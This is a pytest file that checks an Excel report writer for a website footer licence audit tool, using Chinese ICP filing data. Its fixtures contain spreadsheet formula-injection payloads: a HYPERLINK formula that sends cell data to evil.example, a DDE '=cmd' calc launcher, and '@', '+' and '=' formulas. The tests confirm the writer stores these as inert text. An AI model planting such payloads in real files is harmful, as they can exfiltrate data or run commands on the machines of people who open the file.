"""report.xlsx: a golden workbook from four fixed sites, read back with openpyxl cell by cell."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from reports.csvfile import neutralise
from reports.verdict import Verdict
from reports.writer import SITES, WORKBOOK, write_reports
from tests.test_reports import finding, site

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
RESULTS = [
    site(input="例子.中国", line=1, footer_text="Copyright © 2026 例子科技有限公司 京ICP备20018813号-3",
         findings=(finding(),), extra={"business_unit": "华东事业部", "owner": "例子科技有限公司"}),
    site(input="formula.cn", line=2, footer_text=HYPERLINK + "\x07",
         findings=(finding("psb_filing", "京公网安备11010502030143号", link_status="wrong_link")
                   | {"raw": "+1+1"},),
         extra={"business_unit": "@SUM(1+1)", "owner": "=cmd|' /C calc'!A0"}),
    site(input="waived.cn", line=3, footer_text="京ICP备2001881号", extra={"business_unit": "华东事业部"},
         findings=(finding(number="京ICP备2001881号", status="malformed", problems=("digit_count",)),)),
    site(input="offline.cn", line=4, outcome="unreachable", reason="dns",
         extra={"business_unit": "华南事业部"}),
]  # fmt: skip
VERDICTS = {
    "例子.中国": Verdict("compliant"),
    "formula.cn": Verdict("non_compliant", ("missing:icp_filing",), ("psb_filing:wrong_link",)),
    "waived.cn": Verdict("compliant", waived=("icp_filing:digit_count",)),
    "offline.cn": Verdict("unreachable", ("unreachable:dns",)),
}
META = {
    "started_at": "2026-11-29T17:00:00Z", "finished_at": "2026-11-29T17:20:00Z",
    "tool_version": "0.1.0", "catalogue_version": "321c72ae9d40",
    "rules_file": "rules.toml", "rules_sha256": "5e" * 32, "register_file": None,
    "register_sha256": None, "vantage": "direct", "lines": {"read": 5, "kept": 4},
}  # fmt: skip
REGISTER = [
    {"number": "京ICP证030173号", "category": "icp_license", "holder": "例子科技有限公司",
     "authority": "北京市通信管理局", "issued": "2021-03-01", "expires": "2026-03-01",
     "domains": "例子.中国 example.cn", "shown_on": ["例子.中国"],
     "status": ["expired", "holder_conflict"]},
    {"number": "京B2-20090059", "category": "vats_license", "holder": "=1+2", "authority": "",
     "issued": "", "expires": "", "domains": "", "shown_on": [], "status": ["not_displayed"]},
]  # fmt: skip
SHA = "ab" * 32
GREEN, RED, AMBER = "00C6EFCE", "00FFC7CE", "00FFEB9C"


def fixed_judge(result: dict[str, Any]) -> Verdict:
    return VERDICTS[result["input"]]


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("xlsx") / "report"
    write_reports(RESULTS, out, META, judge=fixed_judge, register_rows=iter(REGISTER))
    return out


@pytest.fixture(scope="module")
def book(report: Path) -> Workbook:
    return load_workbook(report / WORKBOOK)


def values(book: Workbook, sheet: str) -> list[list[object]]:
    return [[cell.value for cell in row] for row in book[sheet].iter_rows()]


def test_sheets(book: Workbook) -> None:
    assert book.sheetnames == ["Summary", "Sites", "Findings", "Register"]
    panes = {ws.title: (ws.freeze_panes, ws.auto_filter.ref) for ws in book}
    assert panes == {
        "Summary": (None, None),
        "Sites": ("A2", "A1:AB5"),
        "Findings": ("A2", "A1:L4"),
        "Register": ("A2", "A1:I3"),
    }


def test_summary_sheet(book: Workbook) -> None:
    rows = [[value for value in row if value is not None] for row in values(book, "Summary")]
    assert rows == [
        ["Footer licence audit"],
        [],
        ["What was audited"],
        ["Run started (UTC)", "2026-11-29T17:00:00Z"],
        ["Run finished (UTC)", "2026-11-29T17:20:00Z"],
        ["Tool version", "0.1.0"],
        ["Pattern catalogue version", "321c72ae9d40"],
        ["Rules file", "rules.toml"],
        ["Rules file SHA-256", "5e" * 32],
        ["Register file"],
        ["Register file SHA-256"],
        ["Vantage (proxy or direct)", "direct"],
        ["Input lines", "read: 5; kept: 4"],
        [],
        ["Sites by verdict"],
        ["Verdict", "Sites", "Share"],
        ["compliant", 2, 0.5],
        ["non_compliant", 1, 0.25],
        ["unreachable", 1, 0.25],
        ["invalid_input", 0, 0],
        [],
        ["Sites by problem"],
        ["Problem", "Sites", "Share"],
        ["missing:icp_filing", 1, 0.25],
        ["unreachable:dns", 1, 0.25],
        [],
        ["Sites by notice"],
        ["Notice", "Sites", "Share"],
        ["psb_filing:wrong_link", 1, 0.25],
        [],
        ["Waived items"],
        ["Waived item", "Sites", "Share"],
        ["icp_filing:digit_count", 1, 0.25],
        [],
        ["Sites by crawl outcome"],
        ["Crawl outcome", "Sites", "Share"],
        ["ok", 3, 0.75],
        ["unreachable:dns", 1, 0.25],
        [],
        ["Sites by licence category"],
        ["Category", "Sites", "Valid", "Malformed", "Placeholder"],
        ["icp_filing", 2, 1, 1, 0],
        ["psb_filing", 1, 1, 0, 0],
        [],
        ["Sites by business unit"],
        ["Business unit", "Sites", "Compliant", "Non-compliant", "Unreachable", "Invalid input"],
        ["@SUM(1+1)", 1, 0, 1, 0, 0],
        ["华东事业部", 2, 2, 0, 0, 0],
        ["华南事业部", 1, 0, 0, 1, 0],
    ]
    sheet = book["Summary"]
    assert sheet["A1"].font.b and sheet["A1"].font.sz == 14
    assert [sheet[f"A{row}"].fill.fgColor.rgb for row in (17, 18, 19)] == [GREEN, RED, AMBER]
    assert [sheet[f"C{row}"].number_format for row in (17, 18)] == ["0.0%", "0.0%"]
    assert [sheet[f"{col}46"].fill.fgColor.rgb for col in "CDE"] == [GREEN, RED, AMBER]


def test_sites_sheet(book: Workbook) -> None:
    assert values(book, "Sites") == [
        ["Input", "Line", "Duplicate lines", "Host", "Host (as displayed)", "Registered domain",
         "Crawl outcome", "Reason", "Final URL", "HTTP status", "Fetched at (UTC)", "Verdict",
         "Problems", "Notices", "Waived", "ICP filing number", "ICP licence", "VATS licence",
         "Public security filing", "Unified social credit code", "Footer selector",
         "Evidence (footer text)", "Page SHA-256", "Read as (static or browser)",
         "Rendering failed", "Footer screenshot", "Business unit", "owner"],
        ["例子.中国", 1, None, "例子.中国", "例子.中国", "例子.中国", "ok", None, "https://例子.中国/",
         200, "2026-11-29T17:20:00Z", "compliant", None, None, None, "京ICP备20018813号-3", None,
         None, None, None, "footer", "Copyright © 2026 例子科技有限公司 京ICP备20018813号-3", SHA,
         None, None, None, "华东事业部", "例子科技有限公司"],
        ["formula.cn", 2, None, "formula.cn", "formula.cn", "formula.cn", "ok", None,
         "https://formula.cn/", 200, "2026-11-29T17:20:00Z", "non_compliant",
         "missing:icp_filing", "psb_filing:wrong_link", None, None, None, None,
         "京公网安备11010502030143号", None, "footer", HYPERLINK + "\ufffd", SHA, None, None, None,
         "@SUM(1+1)", "=cmd|' /C calc'!A0"],
        ["waived.cn", 3, None, "waived.cn", "waived.cn", "waived.cn", "ok", None,
         "https://waived.cn/", 200, "2026-11-29T17:20:00Z", "compliant", None, None,
         "icp_filing:digit_count", "京ICP备2001881号", None, None, None, None, "footer",
         "京ICP备2001881号", SHA, None, None, None, "华东事业部", None],
        ["offline.cn", 4, None, "offline.cn", "offline.cn", "offline.cn", "unreachable", "dns",
         None, None, None, "unreachable", "unreachable:dns", None, None, None, None, None, None,
         None, None, None, None, None, None, None, "华南事业部", None],
    ]  # fmt: skip
    sheet = book["Sites"]
    assert [sheet[f"L{row}"].fill.fgColor.rgb for row in range(2, 6)] == [GREEN, RED, GREEN, AMBER]
    assert [cell.font.b for cell in sheet[1]] == [True] * 28


def test_findings_sheet(book: Workbook) -> None:
    assert values(book, "Findings") == [
        ["Input", "Line", "Host", "Category", "Number", "Format status", "Problems", "Warnings",
         "Link", "Link status", "Found in", "Text as found"],
        ["例子.中国", 1, "例子.中国", "icp_filing", "京ICP备20018813号-3", "valid", None, None,
         "https://beian.miit.gov.cn/", "ok", "footer", "京ICP备20018813号-3"],
        ["formula.cn", 2, "formula.cn", "psb_filing", "京公网安备11010502030143号", "valid", None,
         None, "https://beian.miit.gov.cn/", "wrong_link", "footer", "+1+1"],
        ["waived.cn", 3, "waived.cn", "icp_filing", "京ICP备2001881号", "malformed", "digit_count",
         None, "https://beian.miit.gov.cn/", "ok", "footer", "京ICP备2001881号"],
    ]  # fmt: skip


def test_register_sheet(book: Workbook) -> None:
    assert values(book, "Register") == [
        ["Number", "Category", "Holder", "Issuing authority", "Issued", "Expires", "Domains",
         "Shown on", "Licence status"],
        ["京ICP证030173号", "icp_license", "例子科技有限公司", "北京市通信管理局", "2021-03-01",
         "2026-03-01", "例子.中国 example.cn", "例子.中国", "expired; holder_conflict"],
        ["京B2-20090059", "vats_license", "=1+2", None, None, None, None, None, "not_displayed"],
    ]  # fmt: skip


FORMULA_CELLS = [
    ("Sites", "V3", HYPERLINK + "\ufffd"),
    ("Sites", "AA3", "@SUM(1+1)"),
    ("Sites", "AB3", "=cmd|' /C calc'!A0"),
    ("Findings", "L3", "+1+1"),
    ("Register", "C3", "=1+2"),
    ("Summary", "A47", "@SUM(1+1)"),
]


@pytest.mark.parametrize(
    ("sheet", "cell", "text"), FORMULA_CELLS, ids=[c[2] for c in FORMULA_CELLS]
)
def test_formula_payload_is_text(book: Workbook, sheet: str, cell: str, text: str) -> None:
    found = book[sheet][cell]
    assert (found.value, found.data_type, found.quotePrefix) == (text, "s", True)


def test_plain_text_has_no_quote_prefix(book: Workbook) -> None:
    assert [book["Sites"][cell].quotePrefix for cell in ("A2", "V2", "AB2", "L3")] == [False] * 4


def test_no_cell_is_a_formula(report: Path) -> None:
    with zipfile.ZipFile(report / WORKBOOK) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert len(sheets) == 4
        for name in sheets:
            assert not re.search(rb"<f[ >]", archive.read(name)), name


def test_sites_sheet_holds_the_csv(report: Path, book: Workbook) -> None:
    with (report / SITES).open(encoding="utf-8-sig", newline="") as stream:
        csv_rows = list(csv.reader(stream))
    sheet_rows = [
        [neutralise("" if v is None else str(v)) for v in row] for row in values(book, "Sites")
    ]
    csv_rows[0] = sheet_rows[0]  # the CSV is headed by column keys here, the sheet by labels
    csv_rows[2][21] = csv_rows[2][21].replace("\x07", "\ufffd")  # XML cannot hold a bell
    assert sheet_rows == csv_rows


WIDTHS = [
    ("Sites", "A", 12),  # "formula.cn" and "waived.cn" fit under "Input" plus the margin
    ("Sites", "AB", 20),  # 例子科技有限公司: 8 characters, 16 wide
    ("Sites", "W", 60),  # a SHA-256 is cut at the cap
    ("Summary", "A", 27),  # "Pattern catalogue version"
    ("Register", "D", 19),  # 北京市通信管理局 under "Issuing authority"
]


@pytest.mark.parametrize(
    ("sheet", "column", "width"), WIDTHS, ids=[f"{s}!{c}" for s, c, _ in WIDTHS]
)
def test_column_width_counts_chinese_double(
    book: Workbook, sheet: str, column: str, width: int
) -> None:
    assert book[sheet].column_dimensions[column].width == width


def test_chinese_workbook(tmp_path: Path) -> None:
    write_reports(RESULTS, tmp_path / "report", META, judge=fixed_judge, lang="zh")
    book = load_workbook(tmp_path / "report" / WORKBOOK)
    assert book.sheetnames == ["概要", "网站", "编号明细", "许可证登记册"]
    assert [cell.value for cell in book["网站"][1]][:3] == ["输入", "行号", "重复行号"]
    assert [cell.value for cell in book["许可证登记册"][1]][-1] == "许可状态"
    assert [row[:2] for row in values(book, "概要")[:4]] == [
        ["网站页脚许可证核查报告", None], [None, None], ["核查范围", None],
        ["开始时间（UTC）", "2026-11-29T17:00:00Z"],
    ]  # fmt: skip
    assert book["许可证登记册"].max_row == 1  # no register: the header alone


def test_no_sites(tmp_path: Path) -> None:
    write_reports([], tmp_path / "report", META, judge=fixed_judge)
    book = load_workbook(tmp_path / "report" / WORKBOOK)
    assert [(ws.title, ws.max_row, ws.auto_filter.ref) for ws in book][1:] == [
        ("Sites", 1, None),
        ("Findings", 1, None),
        ("Register", 1, None),
    ]
    summary = values(book, "Summary")
    verdicts = summary.index(["Sites by verdict", None, None])
    assert summary[verdicts + 2 : verdicts + 6] == [
        ["compliant", 0, 0], ["non_compliant", 0, 0], ["unreachable", 0, 0],
        ["invalid_input", 0, 0],
    ]  # fmt: skip
